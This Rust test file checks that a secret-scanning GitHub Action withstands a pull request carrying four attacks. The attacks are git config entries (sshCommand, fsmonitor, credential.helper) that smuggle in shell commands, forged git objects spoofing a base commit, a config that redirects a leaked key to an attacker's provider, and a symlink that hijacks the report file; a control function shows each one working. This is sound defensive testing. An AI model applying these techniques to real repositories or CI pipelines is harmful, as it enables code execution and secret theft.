//! One pull request that carries four attacks at once (A1, A2, A3, A6), run by act with the real
//! binary: from a fork without secrets, and from a branch with them. The verdict has to be the one
//! of the same pull request without the attacks.

use std::collections::BTreeMap;
use std::fs;
use std::io::Write as _;
use std::net::TcpListener;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use flate2::Compression;
use flate2::write::ZlibEncoder;

use crate::act::sets;
use crate::outcome::{Outcome, While, ensure};
use crate::process::{self, Ended};
use crate::stage::{ACTION, REPO, Stage};

const WORKFLOW: &str = ".github/workflows/leaks.yml";
const PROVIDER: &str = include_str!("../fixtures/inhouse.yaml");

/// Counts who connects, and answers nobody.
struct Trap {
    port: u16,
    seen: Arc<AtomicUsize>,
}

impl Trap {
    fn new() -> Outcome<Self> {
        let listener = TcpListener::bind("127.0.0.1:0").while_("listen")?;
        let port = listener.local_addr().while_("listen")?.port();
        let seen = Arc::new(AtomicUsize::new(0));
        let count = Arc::clone(&seen);
        std::thread::spawn(move || {
            for connection in listener.incoming() {
                count.fetch_add(1, Ordering::SeqCst);
                drop(connection);
            }
        });
        Ok(Self { port, seen })
    }

    fn url(&self) -> String {
        format!("http://127.0.0.1:{}", self.port)
    }

    fn count(&self) -> usize {
        self.seen.load(Ordering::SeqCst)
    }
}

/// Writes a loose object under an id that is not its own.
fn forge(objects: &Path, id: &str, kind: &str, content: &[u8]) -> Outcome<()> {
    let mut zipped = ZlibEncoder::new(Vec::new(), Compression::fast());
    zipped
        .write_all(format!("{kind} {}\0", content.len()).as_bytes())
        .and_then(|()| zipped.write_all(content))
        .while_("zip")?;
    let path = objects.join(&id[..2]).join(&id[2..]);
    fs::create_dir_all(path.parent().ok_or("no folder")?).while_("make a folder")?;
    fs::write(path, zipped.finish().while_("zip")?).while_("write an object")
}

struct Attack {
    stage: Stage,
    base: String,
    head: String,
    marker: PathBuf,
    victim: PathBuf,
}

/// The pull request, with the attacks or without them.
fn pull_request(name: &str, trap: &Trap, with_attacks: bool) -> Outcome<Attack> {
    let stage = Stage::new(name)?;
    stage.paste("SENDGRID_API_KEY");
    stage.init(&["sendgrid"])?;
    stage.write(WORKFLOW, &workflow(trap))?;
    stage.write("service/app.py", "print('hello')\n")?;
    let base = stage.commit("Begin")?;
    stage.git(&["checkout", "--quiet", "-b", "feature"])?;
    let value = stage.emulator.sendgrid().add_key("leaked", &["mail.send"]).value;
    stage.write("settings.py", &format!("KEY = '{value}'\n"))?;
    stage.commit("Send mail")?;
    stage.write("settings.py", "KEY = ''\n")?;
    let (marker, victim) = (stage.folder.join("marker"), stage.folder.join("victim"));
    fs::write(&victim, "untouched\n").while_("write a file")?;
    if with_attacks {
        attack(&stage, &base, &marker, &victim, trap)?;
    }
    let head = stage.commit("Tidy up")?;
    Ok(Attack { stage, base, head, marker, victim })
}

fn attack(stage: &Stage, base: &str, marker: &Path, victim: &Path, trap: &Trap) -> Outcome<()> {
    // A3 and the aim of A2: a config that ignores everything and sends the value elsewhere.
    let config =
        fs::read_to_string(stage.repo.join(".github/tokenward.yml")).while_("read the config")?;
    let config = config.replace("provider: sendgrid", "provider: inhouse-mailer");
    stage.write(
        ".github/tokenward.yml",
        &format!("{config}\nproviders: [evil.yaml]\nscan: {{ignore: ['**']}}\n"),
    )?;
    stage.write("evil.yaml", PROVIDER)?;
    // A6: a link where the report goes.
    symlink(victim, stage.repo.join("tokenward.sarif")).while_("make a link")?;
    // A2: the base's own id stands for a commit of the attacker's.
    stage.commit("A better config")?;
    let tree = stage.git(&["rev-parse", "HEAD^{tree}"])?;
    let by = "T <t@example.com> 1764000000 +0000";
    let service = stage.repo.join("service");
    let forged = format!("tree {tree}\nauthor {by}\ncommitter {by}\n\nBegin\n");
    forge(&service.join("objects"), base, "commit", forged.as_bytes())?;
    for id in [
        tree,
        stage.git(&["rev-parse", "HEAD:.github"])?,
        stage.git(&["rev-parse", "HEAD:.github/tokenward.yml"])?,
    ] {
        let kind = stage.git(&["cat-file", "-t", &id])?;
        let mut git = Command::new("git");
        let content = git
            .args(["cat-file", &kind, &id])
            .current_dir(&stage.repo)
            .output()
            .while_("read an object")?
            .stdout;
        forge(&service.join("objects"), &id, &kind, &content)?;
    }
    // A1: a folder that looks like a bare repository.
    let touch = format!("touch {}", marker.display());
    stage.write("service/HEAD", "ref: refs/heads/main\n")?;
    stage.write("service/refs/heads/main", &format!("{base}\n"))?;
    let url = trap.url();
    stage.write(
        "service/config",
        &format!(
            "[core]\n\trepositoryformatversion = 0\n\tbare = true\n\tsshCommand = \"{touch}; false\"\n\tfsmonitor = \"{touch}\"\n\
             [remote \"origin\"]\n\turl = ssh://127.0.0.1/x\n\tfetch = +refs/heads/*:refs/stolen/*\n\
             [remote \"other\"]\n\turl = {url}/x.git\n[credential]\n\thelper = \"!{touch}\"\n"
        ),
    )
}

fn workflow(trap: &Trap) -> String {
    let sandbox = trap.url();
    format!(
        "\
on: [pull_request]
permissions: {{}}
jobs:
  leaks:
    runs-on: ubuntu-latest
    env: {{TOKENWARD_SANDBOX_INHOUSE_MAILER: '{sandbox}'}}
    steps:
      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1
        with: {{fetch-depth: 0, persist-credentials: false}}
      - uses: {ACTION}
        with:
          version: source
          working-directory: service
          config: ${{{{ github.workspace }}}}/.github/tokenward.yml
          sarif-file: tokenward.sarif
      - if: always()
        uses: {ACTION}
        with: {{command: check, version: source, working-directory: service, config: '${{{{ github.workspace }}}}/.github/tokenward.yml'}}
        env:
          SENDGRID_API_KEY: ${{{{ secrets.SENDGRID_API_KEY }}}}
          SENDGRID_MANAGER_KEY: ${{{{ secrets.SENDGRID_MANAGER_KEY }}}}
"
    )
}

/// What both steps set as outputs.
fn verdicts(ended: &Ended) -> Vec<String> {
    let wanted = ["exit-code", "leaked", "outcome", "expired"];
    let lines = ended
        .said
        .lines()
        .filter_map(|line| line.split_once("::set-output:: "))
        .map(|(_, output)| output.to_owned());
    let mut all: Vec<String> = lines
        .filter(|output| wanted.iter().any(|name| output.starts_with(&format!("{name}="))))
        .collect();
    // Act prints the outputs of a step in no order.
    all.sort();
    all
}

fn run(attack: &Attack, from: &str) -> Outcome<Ended> {
    let event = Stage::pull_request(&attack.base, &attack.head, from);
    attack.stage.act("pull_request", WORKFLOW, Some(&event), from == REPO)
}

pub(crate) fn four_attacks_at_once() -> Outcome<()> {
    let trap = Trap::new()?;
    let hostile = pull_request("hostile", &trap, true)?;
    let honest = pull_request("honest", &trap, false)?;
    for from in ["mallory/site", REPO] {
        let (attacked, plain) = (run(&hostile, from)?, run(&honest, from)?);
        sets(&attacked, "exit-code", "11")?;
        sets(&attacked, "leaked", "1")?;
        let (attacked_verdicts, plain_verdicts) = (verdicts(&attacked), verdicts(&plain));
        ensure(attacked_verdicts == plain_verdicts && attacked_verdicts.len() >= 8, || {
            format!("{from}: {attacked_verdicts:?} and not {plain_verdicts:?}:\n{}", attacked.said)
        })?;
        ensure(!hostile.marker.exists(), || {
            format!("{from}: a program of the pull request was started:\n{}", attacked.said)
        })?;
        ensure(trap.count() == 0, || {
            format!("{from}: {} foreign requests:\n{}", trap.count(), attacked.said)
        })?;
        let victim = fs::read_to_string(&hostile.victim).while_("read a file")?;
        ensure(victim == "untouched\n", || {
            format!("{from}: the report followed the link:\n{victim}")
        })?;
    }
    vehicles_work(&hostile, &trap)
}

/// The control: each attack does what it is for where nobody is careful.
fn vehicles_work(attack: &Attack, trap: &Trap) -> Outcome<()> {
    let repo = &attack.stage.repo;
    let naive = |arguments: &[&str]| {
        let mut git = Command::new("git");
        git.args(arguments)
            .current_dir(repo.join("service"))
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .env("GIT_CONFIG_NOSYSTEM", "1");
        git.env("GIT_TERMINAL_PROMPT", "0").output().while_("run git")
    };
    naive(&["fetch", "origin"])?;
    ensure(attack.marker.exists(), || "A1: the vehicle does not work".to_owned())?;
    naive(&["fetch", "other"])?;
    ensure(trap.count() > 0, || "A1: the other remote is not asked".to_owned())?;
    let shown = naive(&["cat-file", "-p", &format!("{}:.github/tokenward.yml", attack.base)])?;
    ensure(String::from_utf8_lossy(&shown.stdout).contains("inhouse-mailer"), || {
        "A2: the vehicle does not work".to_owned()
    })?;
    // A person's own files count where a person is, so there the attacker's config does send the
    // value.
    let before = trap.count();
    let env = BTreeMap::from([
        ("PATH".to_owned(), std::env::var("PATH").unwrap_or_default()),
        ("TOKENWARD_SANDBOX_INHOUSE_MAILER".to_owned(), trap.url()),
        (
            "SENDGRID_API_KEY".to_owned(),
            attack.stage.emulator.sendgrid().add_key("bait", &["mail.send"]).value,
        ),
    ]);
    let ended = process::run(&attack.stage.binary(), &["check"], repo, &env)?;
    ensure(trap.count() > before, || format!("A3: the vehicle does not work:\n{}", ended.said))?;
    fs::write(repo.join("tokenward.sarif"), "owned\n").while_("write through the link")?;
    let victim = fs::read_to_string(&attack.victim).while_("read a file")?;
    ensure(victim == "owned\n", || "A6: the vehicle does not work".to_owned())
}
